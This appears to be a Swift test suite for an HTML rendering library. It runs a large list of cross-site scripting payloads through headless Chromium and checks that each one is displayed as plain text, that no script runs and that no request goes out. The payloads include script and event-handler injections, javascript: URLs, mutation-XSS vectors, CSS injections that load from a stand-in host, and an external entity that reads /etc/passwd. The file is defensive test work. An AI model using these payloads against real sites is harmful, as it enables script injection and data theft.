import ProtocolStyle
import StyleHTML
import Testing

@testable import PageFixtures

/// Texts that try to run scripts, in every position of a page: a browser shows each as text.
@Suite(.needsChromium) struct HostileTextTests {
  /// Returns the text in a page, where control characters that HTML doesn't allow are replaced, and
  /// line breaks are line feeds.
  private static func kept(_ text: String) -> String {
    String(
      String.UnicodeScalarView(
        text.replacing("\r\n", with: "\n").replacing("\r", with: "\n").unicodeScalars.map {
          ($0.value < 0x20 && !["\t", "\n"].contains($0)) || $0.value == 0x7F
            ? "\u{FFFD}" : $0
        }))
  }

  private static func model(_ kind: NodeKind, _ body: (inout ViewModel) -> Void) -> ViewModel {
    var model = ViewModel(kind: kind)
    body(&model)
    return model
  }

  /// Returns models with a text in elements, each with a script that reads the text.
  private static func positions(_ text: String) -> [(model: ViewModel, read: String)] {
    [
      (model(.label) { $0.text = text }, "element.textContent"),
      (model(.button) { $0.text = text }, "element.textContent"),
      (
        model(.button) {
          $0.text = text
          $0.titleEdgeInsets = .zero
        }, "element.firstElementChild.textContent"
      ),
      (model(.navigationBar) { $0.text = text }, "element.firstElementChild.textContent"),
      (model(.textField) { $0.text = text }, "element.getAttribute('value')"),
      (model(.searchBar) { $0.placeholder = text }, "element.placeholder"),
      (model(.textView) { $0.text = text }, "element.textContent"),
      (model(.view) { $0.accessibilityLabel = text }, "element.getAttribute('aria-label')"),
      (
        model(.image) {
          $0.image = .named(text)
          $0.accessibilityLabel = text
        }, "element.alt"
      ),
      (model(.picker) { $0.items = ItemList([text]) }, "element.firstElementChild.textContent"),
      (
        model(.segmentedControl) { $0.items = ItemList([text]) },
        "element.textContent"
      ),
      (
        model(.segmentedControl) { $0.items = ItemList([text], images: [.named("list")]) },
        "element.querySelector('input').getAttribute('aria-label')"
      ),
      (model(.tableSectionHeader) { $0.text = text }, "element.firstElementChild.textContent"),
      (model(.label) { $0.richText = RichText(verbatim: text) }, "element.textContent"),
      (
        model(.link) {
          $0.text = text
          $0.link = text
        }, "/^(https?|mailto|tel|sms|file|):$/.test(element.protocol) && element.textContent"
      ),
      (
        model(.view) { $0.accessibilityHint = text },
        "element.getAttribute('aria-description') ?? ''"
      ),
      (
        model(.label) { $0.accessibilityIdentifier = text }, "element.dataset.testid ?? ''"
      ),
    ]
  }

  @Test func `there are many`() {
    #expect(Set(HostileText.all).count >= 200)
  }

  @Test func `texts in elements are unchanged`() async throws {
    let cases = HostileText.all.flatMap { text in Self.positions(text).map { (text, $0) } }
    let reads = Self.positions("").map(\.read)
    let html = cases.map { HTMLFragment(of: $0.1.model).html }
    let page = """
      <!DOCTYPE html><meta charset="utf-8"><body><script>
      var hits = 0
      var alert = hit = () => hits++
      </script>\(html.map { "<div class=\"case\">\($0)</div>" }.joined())
      """
    let found: Found = try await #require(Chromium.installed).result(
      of: page,
      running: """
        const reads = [\(reads.map { "element => \($0)" }.joined(separator: ","))]
        return {
          hits, requests: performance.getEntriesByType('resource').map(entry => entry.name)
            .filter(name => name.includes('evil.invalid')),
          values: [...document.querySelectorAll('.case')].map((box, index) => {
            const element = box.firstElementChild
            return [reads[index % reads.length](element), String(box.querySelectorAll('*').length),
              element.getAttributeNames().filter(name => name.startsWith('on')).join()]
          })
        }
        """)
    #expect(found.hits == 0)
    #expect(found.requests == [])
    try #require(found.values.count == cases.count)
    for (index, (value, (text, position))) in zip(found.values, cases).enumerated() {
      // A segment is in a label in a fieldset in a form, after its radio button, and an image is an element.
      let isNested = reads[index % reads.count].contains("firstElementChild")
      let segment = position.model.items?.image(at: 0) == nil ? "4" : "5"
      let count = position.model.kind == .segmentedControl ? segment : isNested ? "2" : "1"
      #expect(value == [Self.kept(text), count, ""], "\(position.model.kind), \(index)")
    }
  }

  /// An attribute with styles, at the end, proves that the policy is in force, as do the images,
  /// whose addresses are texts.
  ///
  /// The browser reports violations later than it loads the page.
  @Test func `under a strict policy, no text tries to run or to style anything`() async throws {
    let html = HostileText.all.flatMap { text in
      Self.positions(text).map { HTMLFragment(of: $0.model).html }
    }
    let policy = "default-src 'none'; style-src 'nonce-a'; img-src data:; script-src 'nonce-b'"
    let page = """
      <!DOCTYPE html><meta charset="utf-8">
      <meta http-equiv="Content-Security-Policy" content="\(policy)">
      <script nonce="b">
      document.addEventListener('securitypolicyviolation', event => {
        parent.violations.push(event.effectiveDirective)
      })
      </script>
      <body>\(html.joined())<p style="color: red">proof</p>
      """
    let source = page.replacing("&", with: "&amp;").replacing("\"", with: "&quot;")
    let violations: [String] = try await #require(Chromium.installed).result(
      of: """
        <!DOCTYPE html><meta charset="utf-8"><body><script>var violations = []</script>
        <iframe srcdoc="\(source)"></iframe>
        """,
      running: "return violations", after: "violations.includes('style-src-attr')")
    #expect(violations.filter { $0 != "img-src" } == ["style-src-attr"])
    #expect(violations.contains("img-src"))
  }

  private struct Found: Decodable {
    let hits: Int
    let requests: [String]
    let values: [[String]]
  }

  private struct Box: ViewNode {}

  @Test func `texts in a page's head, names and classes are unchanged`() async throws {
    let tree = StyleTree()
    tree.attach(Box())
    tree.attach(Title(text: "x"))
    // Frames are slower than elements, and longer classes have no use.
    let texts = HostileText.all.filter { $0.utf8.count < 1_000 }
    let pages = texts.map { text in
      let page = HTMLPage(
        of: tree, title: text, language: text, nonce: text,
        looks: [
          HTMLLook("first", colorScheme: .light),
          HTMLLook(text, themes: [.brand], colorScheme: .light),
        ], elements: [.view: HTMLElement(.div, className: text)])
      return String(decoding: page.bytes(), as: UTF8.self)
    }
    let found: Found = try await #require(Chromium.installed).result(
      of: """
        <!DOCTYPE html><meta charset="utf-8"><body><script>
        var hits = 0
        var hit = () => hits++
        for (const page of \(Chromium.literal(pages))) {
          const frame = document.createElement('iframe')
          frame.srcdoc = page
          document.body.append(frame)
          frame.contentWindow.hit = hit
        }
        </script>
        """,
      running: """
        const texts = \(Chromium.literal(texts.map { $0.replacing("\0", with: "\u{FFFD}") }))
        const requests = []
        const values = [...document.querySelectorAll('iframe')].map((frame, index) => {
          const { document, performance } = frame.contentWindow
          requests.push(...performance.getEntriesByType('resource').map(entry => entry.name))
          const root = document.documentElement
          const label = document.querySelector('span')
          const before = getComputedStyle(label).color
          root.dataset.theme = texts[index]
          return [
            document.querySelector('title').textContent, root.lang,
            document.querySelector('style').nonce, document.querySelector('div').className,
            before, getComputedStyle(label).color, String(document.querySelectorAll('*').length)
          ]
        })
        return { hits, requests, values }
        """)
    #expect(found.hits == 0)
    #expect(found.requests == [])
    try #require(found.values.count == texts.count)
    for (text, value) in zip(texts, found.values) {
      let kept = Self.kept(text)
      #expect(
        value == [kept, kept, kept, kept, "rgb(0, 0, 0)", "color(srgb 1 0.5 0)", "10"],
        "\(String(reflecting: text))")
    }
  }

  @Test func `as a font family, each stays a family`() async throws {
    let texts = HostileText.all
    let fragments = texts.map { text in
      HTMLFragment(of: Self.model(.label) { $0.font = FontDescriptor(text, size: 9) })
    }
    let sheet = HTMLFragment(of: ViewModel(kind: .view)).css
    let values: [[String]] = try await #require(Chromium.installed).result(
      of: """
        <!DOCTYPE html><meta charset="utf-8"><style>
        \(fragments.map { $0.css.dropFirst(sheet.count) }.joined())</style><body>
        \(fragments.map(\.html).joined())
        """,
      running: """
        const styles = document.querySelectorAll('style')
        const rules = [...styles[0].sheet.cssRules].length
        return [...document.querySelectorAll('span')].map(label => {
          const { fontFamily, fontSize, color } = getComputedStyle(label)
          return [fontFamily, fontSize, color, String(styles.length), String(rules)]
        })
        """)
    try #require(values.count == texts.count)
    for (text, value) in zip(texts, values) {
      let family = FontDescriptor(text, size: 9).family
      if case .named(let name) = family {
        // The generic family of the class follows the name.
        #expect(Self.unquoted(value[0]) == name.replacing("\0", with: "\u{FFFD}"))
      }
      #expect(value.dropFirst() == ["9px", "rgb(0, 0, 0)", "1", "\(texts.count)"])
    }
  }

  /// Returns the value of text that a browser quoted according to CSSOM.
  private static func unquoted(_ text: String) -> String {
    guard text.hasPrefix("\""), let end = text.lastIndex(of: "\"") else {
      return String(text.prefix { $0 != "," })
    }
    return String(text[..<end].dropFirst())
      .replacing(#/\\([0-9a-f]{1,6}) |\\(.)/#) { match in
        if let code = match.1, let value = UInt32(code, radix: 16) {
          return Unicode.Scalar(value).map { String(Character($0)) } ?? ""
        }
        return String(match.2 ?? "")
      }
  }

  @Test(arguments: [true, false])
  func `as an image's name or address, each is a file beside the page or nothing`(isName: Bool)
    async throws
  {
    let texts = HostileText.all.filter { $0.utf8.count < 1_000 }
    let fragments = texts.map { text in
      let picture = Self.model(.image) { $0.image = .named(isName ? text : "x") }
      let button = Self.model(.button) {
        $0.backgroundImageForState = [.normal: .named(isName ? text : "x")]
      }
      return [picture, button].map {
        isName ? HTMLFragment(of: $0) : HTMLFragment(of: $0, images: { _ in text })
      }
    }
    let sheet = HTMLFragment(of: ViewModel(kind: .view)).css
    // Addresses in templates, and in rules that match no element, aren't loaded.
    let addresses: [String] = try await #require(Chromium.installed).result(
      of: """
        <!DOCTYPE html><meta charset="utf-8"><style>
        \(fragments.map { $0[1].css.dropFirst(sheet.count) }.joined())</style>
        <template>\(fragments.map { $0[0].html }.joined())</template><body>
        """,
      running: """
        const images = [...document.querySelector('template').content.children]
        const layers = [...document.querySelector('style').sheet.cssRules]
        const rules = layers.flatMap(layer => [...layer.cssRules])
        const inRules = rules.map(rule => /^url\\("(.*)"\\)$/.exec(rule.style.backgroundImage)?.[1])
        return [...images.map(image => image.getAttribute('src')), ...inRules]
          .map(address => address?.replace(/\\\\(["\\\\])/g, '$1'))
          .map(address => URL.parse(address ?? '', 'https://page.invalid/folder/')?.href ?? '')
        """)
    try #require(addresses.count > texts.count)
    for address in Set(addresses) {
      let isHarmless =
        isName
        ? address.hasPrefix("https://page.invalid/")
        : ["https:", "http:", "data:image/"].contains { address.lowercased().hasPrefix($0) }
      #expect(isHarmless || address.isEmpty, "\(address)")
    }
    if isName { #expect(addresses.contains("https://page.invalid/folder/javascript%3Ahit%28%29")) }
  }
}

// MARK: - HostileText

/// Texts of the usual classes that try to run scripts or to escape from their place.
///
/// Scripts in them call `hit()`, which the tests' pages define; addresses in them load
/// `evil.invalid`.
enum HostileText {
  static let all: [String] =
    markup + attributes + entities + characters + styles + addresses + mutations + ends + long

  private static let markup: [String] = [
    "<script>hit()</script>", "<SCRIPT>hit()</SCRIPT>", "<script >hit()</script >",
    "<script/x>hit()</script>", "<script src=//evil.invalid/x.js></script>",
    "<script src=data:,hit()></script>", "<script type=module>hit()</script>",
    "</label><script>hit()</script>", "</button><script>hit()</script>",
    "</textarea><script>hit()</script>", "</title><script>hit()</script>",
    "</option></select><script>hit()</script>", "</style><script>hit()</script>",
    "</body></html><script>hit()</script>", "<scr<script>ipt>hit()</scr</script>ipt>",
    "<<script>hit()//<</script>", "<script\u{0}>hit()</script>", "<script\t>hit()</script>",
    "<img src=x onerror=hit()>", "<img src=x onerror='hit()'>", "<img src=x onerror=\"hit()\">",
    "<IMG SRC=x ONERROR=hit()>", "<img/src=x/onerror=hit()>", "<img src=//evil.invalid/i.png>",
    "<image src=x onerror=hit()>", "<svg onload=hit()>", "<svg/onload=hit()>",
    "<svg><script>hit()</script></svg>", "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:hit()><text>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,x></svg>", "<svg><set onbegin=hit() attributeName=x>",
    "<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>",
    "<math><mi href=javascript:hit()>x</mi></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:hit()>x</maction></math>",
    "<iframe src=javascript:hit()></iframe>", "<iframe srcdoc='<script>top.hit()</script>'>",
    "<iframe src=//evil.invalid></iframe>", "<frameset onload=hit()>", "<body onload=hit()>",
    "<object data=javascript:hit()></object>", "<embed src=javascript:hit()>",
    "<link rel=stylesheet href=//evil.invalid/x.css>", "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<form action=javascript:hit()><input type=submit></form>",
    "<button formaction=javascript:hit()>x</button>", "<input autofocus onfocus=hit()>",
    "<select autofocus onfocus=hit()>", "<textarea autofocus onfocus=hit()>",
    "<details open ontoggle=hit()>", "<video src=x onerror=hit()>", "<audio src=x onerror=hit()>",
    "<video><source onerror=hit()></video>", "<marquee onstart=hit()>x</marquee>",
    "<style>@import '//evil.invalid/x.css';</style>", "<style onload=hit()></style>",
    "<a href=javascript:hit()>x</a>", "<div style=background:url(//evil.invalid/x)>x</div>",
    "<p onmouseover=hit()>x</p>", "<template><script>hit()</script></template>",
    "<noscript><img src=x onerror=hit()></noscript>", "<xmp><script>hit()</script></xmp>",
    "<plaintext>", "<table><script>hit()</script>", "<isindex action=javascript:hit()>",
  ]

  private static let attributes: [String] = [
    "\" onclick=\"hit()", "' onclick='hit()", "\" onfocus=hit() autofocus=\"",
    "' onfocus=hit() autofocus='", "\"><script>hit()</script>", "'><script>hit()</script>",
    "\"><img src=x onerror=hit()>", "'><img src=x onerror=hit()>", "\"/onload=hit() x=\"",
    "\" style=\"x:expression(hit())", "\" src=x onerror=\"hit()", "x onmouseover=hit()",
    "`onclick=hit()", "`><script>hit()</script>", "\"", "'", "\"'", "'\"", "`", "\\\"", "\\'",
    "\"\"", "''", "a=b", "=", ">", "<", "/>", "\" \"", "\" id=\"n0", "\" class=\"now",
    "\" data-theme=\"x", "\"\n onclick=\"hit()", "\"\tonclick=\"hit()", "\"\u{C}onclick=\"hit()",
    "\" type=\"image\" src=x onerror=\"hit()", "\" formaction=\"javascript:hit()",
  ]

  private static let entities: [String] = [
    "&", "&&", "&amp;", "&amp;amp;", "&lt;script&gt;hit()&lt;/script&gt;", "&#60;script&#62;",
    "&#x3c;script&#x3e;", "&#x3C", "&#60", "&lt", "&LT;", "&quot;", "&quot", "&apos;", "&#39;",
    "&#0;", "&#x0;", "&#xD800;", "&#x110000;", "&#128;", "&nbsp;", "&nbsp", "&notin;", "&notit;",
    "&NewLine;", "&Tab;", "&colon;", "&lpar;", "&bogus;", "&;", "&#;", "&#x;", "a&b=c&copy=d",
    "&#106;avascript:hit()", "&quot;onclick=hit()", "&gt;&lt;img src=x onerror=hit()>",
  ]

  private static let characters: [String] = [
    "a\u{0}b", "\u{0}", "<\u{0}script>hit()</script>", "a\u{1}b", "a\u{8}b", "a\u{B}b",
    "a\u{C}b", "a\u{1B}[31mb", "a\u{7F}b", "a\u{80}b", "a\u{85}b", "a\u{9F}b", "a\rb", "a\nb",
    "a\r\nb", "\n", "\r", "\n\n", "\r\n\r\n", "\t", " ", "  a  b  ", "", "\u{A0}", "\u{AD}",
    "\u{200B}", "\u{200E}a", "\u{200F}a", "\u{202A}a\u{202C}", "\u{202E}gnp.exe",
    "\u{2066}a\u{2069}",
    "\u{2028}", "\u{2029}", "\u{FEFF}", "\u{FFFD}", "\u{FFFE}", "\u{FFFF}", "\u{10FFFF}",
    "\u{1F469}\u{200D}\u{1F4BB}", "e\u{301}", "\u{130}\u{131}", "\u{FF1C}script\u{FF1E}hit()",
    "\u{2039}script\u{203A}", "\u{2BC}onclick=hit()", "\u{E000}", "日本", "العربية", "\u{2A}",
  ]

  private static let styles: [String] = [
    "</style>", "</STYLE >", "</style/>", "</style\n>", "<style>*{color:red}</style>",
    "};*{background:url(//evil.invalid/x)}", "\"};*{background:url(//evil.invalid/x)}",
    "');background:url(//evil.invalid/x);a:('", "\\\"}*{color:red}", "\\", "\\\\", "\\22",
    "\\3c /style\\3e", "@import url(//evil.invalid/x);", "url(javascript:hit())",
    "expression(hit())", "/*", "*/", "/**/", "<!--", "-->", "{", "}", ";", ":", "!important",
    "a;color:red", "a{b}", "\"\\\n\"", "inherit", "initial", "sans-serif", "var(--x)",
    "behavior:url(x)", "-moz-binding:url(x)", "\u{C}}*{color:red}", "1st family", "a,b",
  ]

  private static let addresses: [String] = [
    "javascript:hit()", "JavaScript:hit()", "JAVASCRIPT:hit()", " javascript:hit()",
    "\tjavascript:hit()", "\njavascript:hit()", "java\tscript:hit()", "java\nscript:hit()",
    "java\rscript:hit()", "\u{1}javascript:hit()", "\u{0}javascript:hit()", "javascript\u{0}:hit()",
    "javascript:hit()//", "javascript://%0ahit()", "javascript:/*x*/hit()", "javascript\n:hit()",
    "javascript :hit()", "javascript&colon;hit()", "javascript&#58;hit()", "javascript%3Ahit()",
    "\u{FEFF}javascript:hit()", "jav\u{AD}ascript:hit()", "ｊavascript:hit()", "vbscript:hit()",
    "livescript:hit()", "data:text/html,<script>top.hit()</script>", "data:,hit()",
    "data:text/html;base64,PHNjcmlwdD50b3AuaGl0KCk8L3NjcmlwdD4=", "DATA:TEXT/HTML,x",
    "data:image/svg+xml,<svg onload=hit()>", "view-source:javascript:hit()",
    "feed:javascript:hit()",
    "blob:x", "filesystem:x", "about:blank", "file:///etc/passwd", "ftp://evil.invalid/x",
    "\\\\evil.invalid\\x", "x:y", ":", "//", "?", "#", "..", ".", "a:b", "%", "%00",
    "mhtml:x", "jar:x!/y", "ms-its:x", "intent://x", "tel:1", "mailto:x",
  ]

  private static let mutations: [String] = [
    "<noscript><p title=\"</noscript><img src=x onerror=hit()>\">",
    "<svg></p><style><a id=\"</style><img src=x onerror=hit()>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>",
    "<listing>&lt;img src=x onerror=hit()&gt;</listing>",
    "<a title='`'><b title=\"<img onerror=hit()>\">",
    "<svg><title><style><img title=\"</style><img src=x onerror=hit()>\">",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=hit()></annotation-xml></math>",
    "<div id=x><table><td></div><script>hit()</script>",
    "<option><style></option></select><img src=x onerror=hit()>",
    "<!--><script>hit()</script>-->", "<!--a--!><script>hit()</script>",
    "<!-- --><img src=x onerror=hit()>",
    "<template shadowrootmode=open><img src=x onerror=hit()></template>",
    "<svg><desc><noscript></desc></noscript></desc><s></s><style><a title=\"</style><img src onerror=hit()>\">",
    "<xss style=animation-name:turn onanimationstart=hit()>",
    "<input type=image src=x onerror=hit()>",
  ]

  private static let ends: [String] = [
    "-->", "--!>", "<!--", "<!-->", "<!--->", "]]>", "<![CDATA[<script>hit()</script>]]>",
    "<![CDATA[",
    "<?xml version=\"1.0\"?>", "<?php hit() ?>", "<%= hit() %>", "{{hit()}}", "${hit()}",
    "<!DOCTYPE html>",
    "<!ENTITY x SYSTEM \"file:///etc/passwd\">", "</", "</>", "</ script>", "<a", "<a b=\"", "<!",
    "<?", "<>",
    "hit()", "');hit();('", "\";hit();\"", "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "%3Cscript%3Ehit()",
  ]

  private static let long: [String] = [
    String(repeating: "a", count: 20_000), String(repeating: "<", count: 5_000),
    String(repeating: "&quot;", count: 2_000), String(repeating: "\"'", count: 3_000),
    String(repeating: "<b>", count: 1_000), String(repeating: "é", count: 9_999),
    String(repeating: "\u{1F642}", count: 3_000) + "<script>hit()</script>",
  ]
}
